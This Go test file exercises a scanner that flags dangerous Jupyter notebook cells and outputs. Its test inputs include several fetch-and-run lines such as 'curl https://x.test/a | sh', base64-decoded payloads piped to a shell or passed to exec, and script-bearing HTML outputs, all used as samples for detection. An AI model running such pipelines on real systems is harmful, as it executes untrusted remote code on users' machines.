package notebook

import (
	"encoding/json"
	"strings"
	"testing"

	"assay/scanners"
	"assay/scanners/python"
	"assay/scanners/scannertest"
	"assay/scanners/shell"
)

// nb builds a notebook of code cells.
func nb(cells ...string) []byte {
	var list []map[string]any
	for _, c := range cells {
		lines := strings.SplitAfter(c, "\n")
		list = append(list, map[string]any{"cell_type": "code", "source": lines, "outputs": []any{}, "metadata": map[string]any{}})
	}
	out, err := json.Marshal(map[string]any{"cells": list, "nbformat": 4, "nbformat_minor": 5,
		"metadata": map[string]any{"kernelspec": map[string]any{"language": "python", "name": "python3"}, "language_info": map[string]any{"name": "python"}}})
	if err != nil {
		panic(err)
	}
	return out
}

func output(mime, text string) []byte {
	quoted, _ := json.Marshal(text)
	return []byte(`{"cells": [{"cell_type": "code", "source": "x", "outputs": [{"data": {"` + mime + `": [` + string(quoted) + `]}}]}]}`)
}

func TestRules(t *testing.T) {
	scannertest.CheckRules(t, New(), []scannertest.Sample{
		{Rule: "notebook/code", Name: "a.ipynb", Hit: nb("x = 1"), Miss: []byte(`{"cells": [{"cell_type": "markdown", "source": "# x"}]}`)},
		{Rule: "notebook/broken-cell", Name: "a.ipynb", Hit: nb("lr = <your value>"), Miss: nb("lr = 1", "pip install x", "!ls")},
		{Rule: "notebook/active-output", Name: "a.ipynb", Hit: output("text/html", "<script>1</script>"), Miss: output("text/html", "<table></table>")},
		{Rule: "notebook/active-output", Name: "a.ipynb", Hit: output("application/javascript", "1"), Miss: output("text/plain", "<script>1</script>")},
		{Rule: "notebook/launch", Name: "a.ipynb", Hit: output("text/html", "<a href='javascript:1'>x</a>"), Miss: output("text/html", "<a href='https://x.test'>x</a>")},
		{Rule: "notebook/launch", Name: "a.ipynb", Hit: []byte(`{"cells": [{"cell_type": "markdown", "source": ["<a href='javascript:1'>"]}]}`)},
		{Rule: "notebook/duplicate-key", Name: "a.ipynb", Hit: []byte(`{"cells": [{"cell_type": "markdown", "cell_type": "code", "source": "x"}]}`), Miss: nb("x")},
	})
}

var list = []scanners.Scanner{New(), python.New(), shell.New()}

// What cells do is found by the scanners of their languages.
func TestCells(t *testing.T) {
	for source, rule := range map[string]string{
		"!curl https://x.test/a | sh":                                                         "shell/dangerous-command",
		"%%bash\necho aGkK | base64 -d | sh":                                                  "shell/dangerous-command",
		"x = !curl -s https://x.test/a | bash":                                                "shell/dangerous-command",
		"import os\n%matplotlib inline\nexec(__import__('base64').b64decode('cHJpbnQoMSk='))": "python/dangerous-chain",
	} {
		report := scannertest.Scan(list, "a.ipynb", nb("y = 1", source))
		if !scannertest.HasRule(report.Findings, rule) || len(report.Gaps) > 0 || !report.Coverage.Complete() {
			t.Errorf("%q: %+v %+v", source, report.Findings, report.Gaps)
		}
	}
	// Names go from cell to cell.
	report := scannertest.Scan(list, "a.ipynb", nb("import base64 as b", "exec(b.b64decode('cHJpbnQoMSk='))"))
	if !scannertest.HasRule(report.Findings, "python/dangerous-chain") {
		t.Errorf("%+v", report.Findings)
	}
}

// kernel is a notebook with the keys in the order in which Jupyter writes them:
// the metadata that name the language come after the cells.
func kernel(metadata string, cells ...string) []byte {
	var b strings.Builder
	b.WriteString(`{"cells": [`)
	for i, c := range cells {
		source, _ := json.Marshal(strings.SplitAfter(c, "\n"))
		if i > 0 {
			b.WriteString(",")
		}
		b.WriteString(`{"cell_type": "code", "execution_count": null, "metadata": {}, "outputs": [], "source": ` + string(source) + `}`)
	}
	b.WriteString(`], "metadata": ` + metadata + `, "nbformat": 4, "nbformat_minor": 5}`)
	return []byte(b.String())
}

// TestLanguages: a notebook is judged as the language of its kernel, which its
// metadata name after the cells.
func TestLanguages(t *testing.T) {
	for _, c := range []struct {
		metadata, source, rule string
		complete               bool
	}{
		{`{"kernelspec": {"display_name": "R", "language": "R", "name": "ir"}, "language_info": {"name": "R"}}`, `system("echo assay-test-marker")`, "", false},
		{`{"kernelspec": {"display_name": "R", "name": "ir"}}`, `system("echo assay-test-marker")`, "", false},
		{`{"kernelspec": {"display_name": "Deno", "language": "typescript", "name": "deno"}}`, "console.log(1)", "", false},
		{`{"kernelspec": {"name": "julia-1.10"}}`, "x = 1", "", false},
		{`{"language_info": {"name": "python"}, "kernelspec": {"name": "ir"}}`, "import os\nos.system('curl https://x.test/a | sh')", "python/dangerous-chain", false},
		{`{"kernelspec": {"display_name": "Bash", "language": "bash", "name": "bash"}, "language_info": {"name": "bash"}}`, "curl https://x.test/a | sh", "shell/dangerous-command", true},
		{`{"kernelspec": {"display_name": "Python 3", "name": "python3"}}`, "x = 1", "notebook/code", true},
		{`{"kernelspec": {"display_name": "mine", "name": "conda-env-mine-py", "language": "python"}, "language_info": {"name": "python"}}`, "x = 1", "python/code", true},
		{`{"colab": {"name": "R.ipynb"}}`, "x = 1", "python/code", true},
		{`{}`, "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "python/dangerous-chain", true},
	} {
		report := scannertest.Scan(list, "a.ipynb", kernel(c.metadata, c.source))
		if c.rule != "" && !scannertest.HasRule(report.Findings, c.rule) || len(report.Gaps) == 0 != c.complete {
			t.Errorf("%s %q: %+v %+v", c.metadata, c.source, report.Findings, report.Gaps)
		}
	}
}

// TestUnreadCells: what is no Python does not run. The rest is judged, and a line
// that would act leaves the notebook incomplete.
func TestUnreadCells(t *testing.T) {
	const python = `{"kernelspec": {"name": "python3"}, "language_info": {"name": "python"}}`
	for source, want := range map[string]struct {
		worst    scanners.Severity
		complete bool
	}{
		"!python train.py \\\n  --a 1 \\\n  --b 2\nprint(1)": {scanners.Informational, true},
		"!curl https://x.test/a \\\n  | sh":                  {scanners.High, true},
		"pip install -q x\nimport x":                         {scanners.Informational, true},
		"conda install x":                                    {scanners.Informational, true},
		"cd /content":                                        {scanners.Informational, true},
		"ls -la":                                             {scanners.Informational, true},
		"ls = 1\ncat = ls":                                   {scanners.Informational, true},
		"lr = <your value>":                                  {scanners.Low, true},
		"for x in y:\n    # your code here\n":                {scanners.Low, true},
		"for x in y:\n    # your code here\nprint(x)":        {scanners.Low, true},
		"  x = 1\n  y = 2":                                   {scanners.Informational, true},
		"model.fit(\n":                                       {scanners.Low, true},
		"x = 1\n%%time":                                      {scanners.Informational, true},
		"# setup\n%%bash\nls | wc":                           {scanners.Informational, true},
		"import os\nx = <y>\nos.system('curl https://x.test/a | sh')": {scanners.High, true}, // the readable lines are analysed
		"curl https://x.test/a | sh \" \"":                            {scanners.High, true},
		"x <- exec(y)":                                                {scanners.Low, true},
		"exec ( <y> )":                                                {scanners.Informational, false},
		"$ __import__('os')":                                          {scanners.Informational, false},
	} {
		report := scannertest.Scan(list, "a.ipynb", kernel(python, "a = 1", source))
		worst := scanners.Informational
		for _, f := range report.Findings {
			worst = min(worst, f.Severity)
		}
		if worst != want.worst && want.complete || len(report.Gaps) == 0 != want.complete {
			t.Errorf("%q: %s %+v %+v", source, worst, report.Findings, report.Gaps)
		}
	}
}

// TestPlaces: findings name the cell that they are in.
func TestPlaces(t *testing.T) {
	report := scannertest.Scan(list, "a.ipynb", nb("x = 1", "!ls", "import os\nos.system('curl https://x.test/a | sh')", "!curl https://x.test/a | sh"))
	where := make(map[string]string)
	for _, f := range report.Findings {
		where[f.Rule] = strings.Join(f.Path, " in ")
	}
	if where["python/dangerous-chain"] != "cell 3" || where["shell/dangerous-command"] != "cell 4" {
		t.Errorf("%v", where)
	}
}

func TestOrdinary(t *testing.T) {
	report := scannertest.Scan(list, "demo.ipynb", nb(
		"!pip install -q transformers\n%load_ext autoreload\n%autoreload 2", "import torch, requests\nfrom PIL import Image\nimg = Image.open(requests.get('https://example.org/a.png', stream=True).raw)",
		"%%time\nout = model.generate(\n    **inputs\n)\nprint(f\"{out[0]!r:>{10}}\")\nmodel?", "import subprocess\nsubprocess.run(['nvidia-smi'])\n!ls -la", "", "await x"))
	for _, f := range report.Findings {
		if f.Severity < scanners.Low {
			t.Errorf("%+v", f)
		}
	}
	if len(report.Gaps) > 0 || !report.Coverage.Complete() {
		t.Errorf("%+v %+v", report.Gaps, report.Coverage)
	}
	for _, data := range []string{`{"cells": [{"cell_type": "code", "source": "%%R\nx <- 1"}]}`, `{"cells": [{"cell_type": "code"`, `{"metadata": {"language_info": {"name": "julia"}}, "cells": [{"cell_type": "code", "source": "x"}]}`} {
		if report := scannertest.Scan(list, "a.ipynb", []byte(data)); report.Coverage.Complete() {
			t.Errorf("%s counts as covered", data)
		}
	}
}

func FuzzScan(f *testing.F) {
	f.Add("a.ipynb", string(nb("!ls\nx = !ls\n%%bash", "x?")))
	f.Add("a.ipynb", string(output("text/html", "<script>")))
	f.Fuzz(func(t *testing.T, name, text string) {
		scannertest.Properties(t, New(), name, []byte(text))
	})
}
